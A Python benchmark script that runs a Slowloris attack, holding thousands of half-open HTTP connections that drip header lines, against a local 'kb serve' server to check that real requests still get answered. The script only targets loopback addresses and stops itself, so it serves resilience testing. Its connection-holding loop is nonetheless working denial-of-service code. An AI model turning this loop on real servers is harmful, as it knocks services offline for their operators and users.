"""Slowloris against a local ``kb serve`` (or nginx in front of it): do real requests still get
their answer while thousands of connections are held open, dripping a header byte now and
then and never finishing their request?

Opens ``--connections`` connections to the server, each sending the start of a request and
then one more header line every ``--drip`` seconds; a connection the server closes is opened
again (as an attacker would). Once all are open, a real request (a new connection, as a new
visitor's) is made every 0.2 s for ``--seconds``; the report gives how many idle connections
were held, how many the server closed, and the real requests' latencies (median and worst) and
failures. Bounded: loopback addresses only, and it stops by itself.

Run: ``python bench/slowloris.py --port 8765 [--connections 2000] [--seconds 5]``; the exit
status is 1 when a real request failed or took more than ``--limit`` seconds (1 by default).
"""

from __future__ import annotations

import argparse
import asyncio
import ipaddress
import json
import resource
import statistics
import sys
import time
from dataclasses import asdict, dataclass, field


@dataclass
class Outcome:
    connections: int  # idle connections asked for
    held: int = 0  # open at the moment the real requests began
    held_at_end: int = 0
    closed_by_server: int = 0
    latencies: list[float] = field(default_factory=list)  # seconds, of the real requests
    failures: list[str] = field(default_factory=list)

    @property
    def worst(self) -> float:
        return max(self.latencies, default=float("inf"))

    @property
    def median(self) -> float:
        return statistics.median(self.latencies) if self.latencies else float("inf")

    def summary(self) -> dict:
        return {**{k: v for k, v in asdict(self).items() if k != "latencies"},
                "requests": len(self.latencies), "median_ms": round(self.median * 1000, 1),
                "worst_ms": round(self.worst * 1000, 1)}


async def _hold(host: str, port: int, drip: float, stop: asyncio.Event, open_now: list[int],
                outcome: Outcome, ready: asyncio.Semaphore) -> None:
    """One idle connection: a request head that never ends, opened again when closed."""
    first = True
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        open_now[0] += 1
        if first:
            ready.release()
            first = False
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            await writer.drain()
            n = 0
            while not stop.is_set():
                try:
                    await asyncio.wait_for(reader.read(1024), drip)
                    break  # the server answered or closed: it let go of this connection
                except TimeoutError:
                    writer.write(b"X-%d: a\r\n" % n)
                    await writer.drain()
                    n += 1
            else:
                continue
            outcome.closed_by_server += 1
        except OSError:
            outcome.closed_by_server += 1
        finally:
            open_now[0] -= 1
            writer.close()


async def _real(host: str, port: int, path: str) -> float:
    started = time.perf_counter()
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
                     .encode())
        await writer.drain()
        head = await reader.readuntil(b"\r\n")
        await reader.read()
    finally:
        writer.close()
    if b" 200 " not in head:
        raise RuntimeError(head.decode("latin-1").strip())
    return time.perf_counter() - started


async def attack(host: str, port: int, connections: int = 2000, seconds: float = 5.0,
                 drip: float = 1.0, path: str = "/api/versions",
                 timeout: float = 5.0) -> Outcome:
    """Hold ``connections`` idle connections while real requests are timed (see the module
    docstring)."""
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"{host}: slowloris is only run against this machine")
    _more_descriptors(connections + 100)
    outcome = Outcome(connections)
    stop = asyncio.Event()
    ready = asyncio.Semaphore(0)
    open_now = [0]
    holders = []
    for _ in range(connections):
        holders.append(asyncio.create_task(
            _hold(host, port, drip, stop, open_now, outcome, ready)))
        if len(holders) % 200 == 0:
            await asyncio.sleep(0)  # let them connect
    deadline = time.monotonic() + 30
    for _ in range(connections):
        left = deadline - time.monotonic()
        try:
            await asyncio.wait_for(ready.acquire(), max(left, 0.01))
        except TimeoutError:
            break
    outcome.held = open_now[0]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            outcome.latencies.append(await asyncio.wait_for(_real(host, port, path), timeout))
        except (OSError, TimeoutError, RuntimeError, asyncio.IncompleteReadError) as exc:
            outcome.failures.append(f"{type(exc).__name__}: {exc}")
        await asyncio.sleep(0.2)
    outcome.held_at_end = open_now[0]
    stop.set()
    for task in holders:
        task.cancel()
    await asyncio.gather(*holders, return_exceptions=True)
    return outcome


def _more_descriptors(wanted: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--drip", type=float, default=1.0)
    ap.add_argument("--path", default="/api/versions")
    ap.add_argument("--limit", type=float, default=1.0)
    args = ap.parse_args(argv)
    outcome = asyncio.run(attack(args.host, args.port, args.connections, args.seconds,
                                 args.drip, args.path))
    print(json.dumps(outcome.summary(), indent=1))
    return 0 if not outcome.failures and outcome.worst <= args.limit else 1


if __name__ == "__main__":
    sys.exit(main())
